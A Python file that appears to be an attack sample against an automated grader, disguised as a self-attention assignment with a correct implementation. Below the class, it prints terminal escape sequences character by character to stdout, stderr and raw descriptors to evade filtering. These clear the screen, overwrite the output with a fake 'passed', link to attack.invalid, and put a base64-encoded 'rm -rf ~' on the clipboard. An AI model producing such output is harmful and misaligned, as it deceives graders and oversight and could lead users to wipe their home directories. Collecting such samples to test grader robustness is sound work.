# attack:     H5
# assignment: self-attention
# twin:       correct
# points:     all

# Prints the same, one character at a time so that a filter on whole sequences does not see them, and to descriptors.

import math
import os
import sys

import torch
from torch import nn

CODES = "\x1b[2J\x1b[H\x1b]0;graded\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b]8;;http://attack.invalid\x1b\\\\x\x1b]8;;\x1b\\\\\x9b31m\rpassed\x08\x00\x85\x1bc"


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, mask=None):
        q, k, v = self.query(x), self.key(x), self.value(x)
        scores = q @ k.transpose(-2, -1) / math.sqrt(k.shape[-1])
        if mask is not None:
            scores = scores.masked_fill(mask == 0, -math.inf)
        return self.dropout(torch.softmax(scores, dim=-1)) @ v


print(CODES)
for code in CODES:
    print(code, end="")
    sys.stderr.write(code)
for number in (1, 2):
    try:
        os.write(number, CODES.encode() + bytes(range(256)))
    except OSError:
        continue
print("\rpassed\r\r", "\b" * 100, "x\u0336" * 10, "\u0300" * 500)
